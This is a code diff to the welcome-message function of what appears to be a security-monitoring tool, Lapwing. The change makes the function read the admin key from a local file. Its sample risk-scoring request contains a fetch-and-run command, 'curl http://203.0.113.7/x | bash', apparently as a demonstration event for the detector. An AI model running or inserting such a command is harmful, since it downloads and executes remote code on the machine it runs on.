@@ -36,7 +36,8 @@ function welcome(app: App, dataDir: string, keyConfigured: boolean): string {
     (keyConfigured
       ? '(the one in LAPWING_ADMIN_KEY)'
       : '(made at the first start; another: npm run lapwing -- keys create --name NAME --role admin)');
-  const bearer = app.newAdminKey ?? '$LAPWING_ADMIN_KEY';
+  // The key itself is shown once; later starts read it from the file that is there for the command line.
+  const bearer = app.newAdminKey ?? `$(sed 's/.*"key":"\\([^"]*\\).*/\\1/' '${dataDir}/cli-key')`;
   const mutation =
     'mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { cursor risk { score level factors { code points } } anomalies { type summary } } userErrors { field message hint } } }';
   const variables = { input: { user: 'ada', session: 'try-1', detail: { terminal: { command: 'curl http://203.0.113.7/x | bash' } } } };
